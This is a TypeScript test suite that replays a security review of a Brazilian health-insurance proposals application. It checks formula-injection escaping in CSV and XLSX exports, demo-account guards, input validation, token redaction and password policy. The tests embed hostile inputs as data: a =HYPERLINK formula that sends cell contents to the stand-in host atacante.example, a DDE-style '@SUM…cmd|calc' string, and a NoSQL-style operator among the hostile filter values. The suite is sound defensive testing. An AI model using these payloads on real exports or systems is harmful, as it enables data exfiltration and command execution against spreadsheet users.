import { parse } from 'csv-parse/sync';
import { eq } from 'drizzle-orm';
import ExcelJS from 'exceljs';
import { unzipSync } from 'fflate';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import ptBR from '../../i18n/pt-BR';
import { canAccess, SITUACAO } from '../../src/domain';
import { SENHA_MENSAGENS } from '../../src/domain/senhas';
import { RESOURCES } from '../../src/registries/registry';
import {
  criarAdministrador,
  dadosDeDemonstracao,
  desativarDemonstracao,
  mensagemDemoEmProducao,
  verificarDemoEmProducao,
} from '../../server/db/producao';
import { loadConfig } from '../../server/config';
import { DEMO_ACCOUNTS } from '../../server/db/seed/users';
import {
  campanhas,
  comunicacoesPropostasAdesao,
  respostasCampanhas,
  salasVideo,
  usuarios,
} from '../../server/db/schema';
import { redactUrl } from '../../server/logger';
import { hashPassword } from '../../server/modules/auth/passwords';
import { LINK_REMOVIDO } from '../../server/modules/integracoes/comunicacoes/links';
import { apiClient, buildProposta } from '../fixtures/propostas';
import { DEMO_PASSWORD, requestToken, SCOPE, signIn } from '../helpers/auth';
import { createTestApp, type TestApp } from '../helpers/test-app';
import { limite } from '../helpers/limites';

/**
 * The security review of issue 41, replayed: each of its requests, with the answer it gets now.
 * One describe per item of the issue; the item's own unit tests sit beside the code they cover
 * (docs/security.md names them).
 */
let t: TestApp;
let as: ReturnType<typeof apiClient>;

beforeAll(async () => {
  t = await createTestApp({ seed: true });
  as = apiClient(t);
});
afterAll(() => t.close());

function readCsv(body: string): string[][] {
  expect(body.startsWith('\uFEFF')).toBe(true);
  return parse(body.slice(1), { delimiter: ';', relax_quotes: true }) as string[][];
}

const FORMULA = '=HYPERLINK("http://atacante.example/x?d="&A2,"Clique aqui")';

describe('item 5: formula injection in the CSV exports', () => {
  const PERIODO = { dataInicio: '01/03/2018', dataFim: '31/03/2018' };

  it("POST /api/relatorio/avaliacoes-saude writes a feedback comment '=HYPERLINK(…)' as text", async () => {
    const proposta = await buildProposta(t.db, {
      nome: 'Revisão Formula Comentário',
      dataCriacao: new Date('2018-03-10T15:00:00Z'),
    });
    const [campanha] = await t.db.select({ id: campanhas.id }).from(campanhas).limit(1);
    await t.db.insert(respostasCampanhas).values({
      campanhaId: campanha.id,
      processoId: 'declaracao-saude',
      identificadorUsuario: `proposta-${proposta.id}`,
      valor: '1',
      comentario: FORMULA,
      alvoId: 'avaliacao-saude',
    });
    const res = await as('gestorsaude').post('/api/relatorio/avaliacoes-saude', PERIODO);
    expect(res.statusCode).toBe(200);
    const [header, ...rows] = readCsv(res.body);
    const row = rows.find((r) => r[header.indexOf('Nome')] === 'Revisão Formula Comentário')!;
    expect(row[header.indexOf('Comentário da experiência')]).toBe(`'${FORMULA}`);
    // No cell of the file starts a formula.
    for (const cell of rows.flat()) expect(cell).not.toMatch(/^[=+\-@\t\r]/);
  });

  it('the same report as XLSX keeps the comment a text cell, never a formula', async () => {
    const res = await t.app.inject({
      method: 'POST',
      url: '/api/relatorio/avaliacoes-saude?formato=xlsx',
      headers: { authorization: `Bearer ${(await signIn(t, 'gestorsaude')).access_token}` },
      payload: PERIODO,
    });
    expect(res.statusCode).toBe(200);
    const workbook = new ExcelJS.Workbook();
    await workbook.xlsx.load(res.rawPayload as unknown as ArrayBuffer);
    const sheet = workbook.getWorksheet('Relatório')!;
    const cells: ExcelJS.Cell[] = [];
    sheet.eachRow((row) => row.eachCell((cell) => cells.push(cell)));
    const comment = cells.find((cell) => String(cell.value).includes('HYPERLINK'))!;
    expect(comment.type).toBe(ExcelJS.ValueType.String);
    expect(cells.some((cell) => cell.type === ExcelJS.ValueType.Formula)).toBe(false);
  });

  it('POST /api/adesao/buscar/exportar neutralises a name and a social name typed as formulas', async () => {
    await buildProposta(t.db, { nome: '@SUM(1+1)*cmd|calc', nomeSocial: '+5511999990000' });
    const res = await as('gestorcomercial').post('/api/adesao/buscar/exportar', {});
    expect(res.statusCode).toBe(200);
    const [header, ...rows] = readCsv(res.body);
    const row = rows.find((r) => r[header.indexOf('Nome')].includes('@SUM'));
    expect(row?.[header.indexOf('Nome')]).toBe("'@SUM(1+1)*cmd|calc");
    expect(row?.[header.indexOf('Nome social')]).toBe("'+5511999990000");
  });
});

describe('item 6: demo data in production', () => {
  it('finds the published demo accounts and link, and none once deactivated', async () => {
    const demo = await createTestApp({ seed: true });
    try {
      const found = await dadosDeDemonstracao(demo.db);
      expect(found).toEqual(expect.arrayContaining(['admin', 'gestorcomercial']));
      expect(found).toContain('link do proponente de demonstração');
      expect(mensagemDemoEmProducao(found)).toContain('ALLOW_DEMO_IN_PRODUCTION=true');

      expect(await desativarDemonstracao(demo.db)).toBeGreaterThan(10);
      expect(await dadosDeDemonstracao(demo.db)).toEqual([]);
      const refused = await requestToken(demo, {
        grant_type: 'password',
        username: 'admin',
        password: DEMO_PASSWORD,
        scope: SCOPE,
      });
      expect(refused.statusCode).toBe(401);

      // The first administrator: a one-time password printed by the command, which signs in.
      const { senha } = await criarAdministrador(demo.db, 'Operadora.Admin');
      expect(senha).toMatch(/^[A-Za-z0-9_-]{24}$/);
      await signIn(demo, 'operadora.admin', senha);
      await expect(criarAdministrador(demo.db, 'operadora.admin')).rejects.toThrow('já existe');
      await expect(criarAdministrador(demo.db, 'admin')).rejects.toThrow('demonstração');
    } finally {
      await demo.close();
    }
  });

  it('an APP_ENV=production start with the demo seeded refuses to serve, unless allowed', async () => {
    const production = { appEnv: 'production', allowDemoInProduction: false };
    await expect(verificarDemoEmProducao(t.db, production)).rejects.toThrow(
      /^dados de demonstração presentes em produção \(admin, .*link do proponente de demonstração\)/,
    );
    const allowed = { ...production, allowDemoInProduction: true };
    expect(await verificarDemoEmProducao(t.db, allowed)).toContain('admin');
    expect(await verificarDemoEmProducao(t.db, { ...production, appEnv: 'local' })).toEqual([]);
    // A production start seeds nothing unless asked (the guard above stops the asked-for case).
    expect(loadConfig({ APP_ENV: 'production' }).seedDemo).toBe(false);
  });
});

describe('item 7: bad filter values answer 400, never a failed query', () => {
  /** A demo account that may read the registry's list (the corretor account cannot sign in). */
  const lister = (name: string) => {
    const definition = RESOURCES.find((d) => d.name === name)!;
    return DEMO_ACCOUNTS.find(
      (a) =>
        a.username !== 'corretor' &&
        canAccess(a.roles, { resource: definition.permission, action: 'list' }),
    )!.username;
  };
  const get = (url: string) => as(lister(url.split('/')[2].split('?')[0])).get(url);
  const filtro = (value: object) => `filter=${encodeURIComponent(JSON.stringify(value))}`;

  it('GET /api/corretores?filter={"cpf":…,"concessionariaId":"x"} names the field', async () => {
    const res = await get(
      `/api/corretores?${filtro({ cpf: '15565959802', concessionariaId: 'x' })}`,
    );
    expect(res.statusCode).toBe(400);
    expect(res.json().messages).toEqual(['Filtro inválido: Concessionária.']);
  });

  it('ids above 2³¹, a NUL byte in the search, a range starting at 1e20', async () => {
    const id = await get(`/api/corretores?${filtro({ id: 2 ** 31 })}`);
    expect(id.statusCode).toBe(400);
    expect(id.json().messages).toEqual(['Filtro inválido: id.']);
    const nul = await get(`/api/concessionarias?${filtro({ q: 'abc\u0000' })}`);
    expect(nul.statusCode).toBe(400);
    expect(nul.json().messages).toEqual([ptBR.servidor.http.caractereInvalido]);
    const range = await get(`/api/corretores?range=${encodeURIComponent('[1e20,1e20]')}`);
    expect(range.statusCode).toBe(400);
  });

  it('POST …/buscar/exportar with a NUL byte in a field (proposals and PME)', async () => {
    const adesao = await as('gestorcomercial').post('/api/adesao/buscar/exportar', {
      filtros: [{ coluna: 'nome', operador: '=', valor: 'Maria\u0000' }],
    });
    expect(adesao.statusCode).toBe(400);
    expect(adesao.json().messages).toEqual([ptBR.servidor.http.caractereInvalido]);
    const pme = await as('gestorcomercialpme').post('/api/propostaPme/buscar/exportar', {
      pesquisa: 'abc\u0000',
    });
    expect(pme.statusCode).toBe(400);
  });

  it(
    'every declared registry, every field: values its column cannot hold get a 400',
    async () => {
      const hostile = [
        'x',
        2 ** 31,
        -(2 ** 31) - 1,
        1e20,
        '1e20',
        'a'.repeat(500),
        '\u0000',
        '2024-13-45T99',
        { $ne: 1 },
        [[1]],
      ];
      for (const definition of RESOURCES) {
        const fields = [
          { source: 'id', type: 'integer' },
          { source: 'q', type: 'text' },
          ...definition.fields.filter((f) => f.type !== 'list'),
        ];
        for (const field of fields) {
          for (const value of hostile) {
            const res = await get(`/api/${definition.name}?${filtro({ [field.source]: value })}`);
            const where = `${definition.name}.${field.source} = ${JSON.stringify(value)}`;
            expect(res.statusCode, where).toBeLessThan(500);
            // Text may legitimately be 'x'; anything else here is refused outright.
            if (res.statusCode !== 200) expect(res.statusCode, where).toBe(400);
          }
        }
      }
    },
    limite(300_000),
  );
});

describe('item 8: no live applicant token in the message log or the data export', () => {
  it('a settled (sent or not sent) term keeps its link without the token; the export carries none', async () => {
    const proposta = await buildProposta(t.db, {
      situacaoPropostaAdesaoId: SITUACAO.AguardandoAprovacaoTermo,
    });
    const sent = await as('gestorcomercial').post(
      `/api/adesao/${proposta.id}/reenviar/termo/email`,
      {},
    );
    expect(sent.statusCode, sent.body).toBe(200);
    const logRow = () =>
      t.db
        .select({
          link: comunicacoesPropostasAdesao.link,
          status: comunicacoesPropostasAdesao.status,
        })
        .from(comunicacoesPropostasAdesao)
        .where(eq(comunicacoesPropostasAdesao.id, sent.json().data.id))
        .then((rows) => rows[0]);
    // Waiting for the worker, the row holds the address it will deliver.
    const pending = await logRow();
    const token = pending.link!.split('/mpa/')[1];
    expect(token).toMatch(/^[A-Za-z0-9_-]{43}$/);

    const exportar = async () => {
      const res = await as('admin').post('/api/titular/exportar', { cpf: proposta.cpf });
      expect(res.statusCode).toBe(200);
      return new TextDecoder().decode(unzipSync(new Uint8Array(res.rawPayload))['dados.json']);
    };
    const before = await exportar();
    expect(before).toContain('comunicacoes_propostas_adesao');
    expect(before).not.toContain(token);

    await t.app.outboxWorker.runOnce();
    const settled = await logRow();
    expect(settled.status).not.toBe('pendente');
    expect(settled.link).toBe(`${t.config.publicUrl}/mpa/${LINK_REMOVIDO}`);
    expect(JSON.stringify(await t.db.select().from(comunicacoesPropostasAdesao))).not.toContain(
      token,
    );
    expect(await exportar()).not.toContain(token);
  });
});

describe('item 9: the video invite’s short link', () => {
  it('is not in the request log, and answers 410 with a pt-BR page once the room closes', async () => {
    expect(redactUrl('/l/Ab3_x-9Z')).toBe('/l/***');
    const p = await buildProposta(t.db, {
      situacaoPropostaAdesaoId: SITUACAO.AguardandoAvaliacaoEnfermagem,
      contatos: ['27999998888'],
    });
    const opened = await as('enfermeiro').post(`/api/enfermeiro/${p.id}/abrirSala`, {
      numerosCelular: ['27999998888'],
    });
    expect(opened.statusCode).toBe(200);
    const url = new URL(opened.json().data.urlBeneficiarioEncurtada).pathname;
    expect((await t.app.inject({ method: 'GET', url })).statusCode).toBe(302);

    await t.db
      .update(salasVideo)
      .set({ dataEncerramento: new Date() })
      .where(eq(salasVideo.propostaAdesaoId, p.id));
    const page = await t.app.inject({ method: 'GET', url, headers: { accept: 'text/html' } });
    expect(page.statusCode).toBe(410);
    expect(page.headers['content-type']).toContain('text/html');
    expect(page.body).toContain('Este atendimento já foi encerrado.');
    expect(page.headers.location).toBeUndefined();
    const api = await t.app.inject({ method: 'GET', url });
    expect(api.statusCode).toBe(410);
    expect(api.json().messages).toEqual(['Este atendimento já foi encerrado.']);
  });

  it('is rate-limited per address like the applicant’s validation', async () => {
    const answers: number[] = [];
    for (let i = 0; i < 25; i++) {
      const res = await t.app.inject({
        method: 'GET',
        url: `/l/naoexiste${i}`,
        remoteAddress: '203.0.113.9',
      });
      answers.push(res.statusCode);
    }
    expect(answers.slice(0, 20).every((status) => status === 404)).toBe(true);
    expect(answers.slice(20)).toEqual([429, 429, 429, 429, 429]);
  });
});

describe('item 10: password change policy (ASVS 6.2)', () => {
  const alterar = async (novaSenha: string, senhaAtual = DEMO_PASSWORD) =>
    t.app.inject({
      method: 'POST',
      url: '/api/usuario/alterar-senha',
      headers: { authorization: `Bearer ${(await signIn(t, 'supervisor')).access_token}` },
      payload: { senhaAtual, novaSenha },
    });

  it("refuses '12345678' and other common passwords, in Portuguese", async () => {
    for (const senha of ['12345678', 'Password1', 'senha@123']) {
      const res = await alterar(senha);
      expect(res.statusCode).toBe(400);
      expect(res.json().messages).toEqual([SENHA_MENSAGENS.comum]);
    }
  });

  it('refuses the current password as the new one', async () => {
    const atual = 'Ipê-Amarelo-Floresce';
    const [supervisor] = await t.db
      .select({ id: usuarios.id })
      .from(usuarios)
      .where(eq(usuarios.username, 'supervisor'));
    const hash = await hashPassword(atual);
    await t.db.update(usuarios).set({ passwordHash: hash }).where(eq(usuarios.id, supervisor.id));
    try {
      const res = await t.app.inject({
        method: 'POST',
        url: '/api/usuario/alterar-senha',
        headers: { authorization: `Bearer ${(await signIn(t, 'supervisor', atual)).access_token}` },
        payload: { senhaAtual: atual, novaSenha: atual },
      });
      expect(res.statusCode).toBe(400);
      expect(res.json().messages).toEqual([SENHA_MENSAGENS.igualAtual]);
    } finally {
      const demo = await hashPassword(DEMO_PASSWORD);
      await t.db.update(usuarios).set({ passwordHash: demo }).where(eq(usuarios.id, supervisor.id));
    }
  });

  it('a reset link refuses a common password too, and stays usable', async () => {
    const res = await t.app.inject({
      method: 'POST',
      url: '/api/usuario/redefinir-senha',
      payload: { token: 'x'.repeat(43), novaSenha: '123456789' },
    });
    expect(res.statusCode).toBe(400);
    expect(res.json().messages).toEqual([SENHA_MENSAGENS.comum]);
  });
});
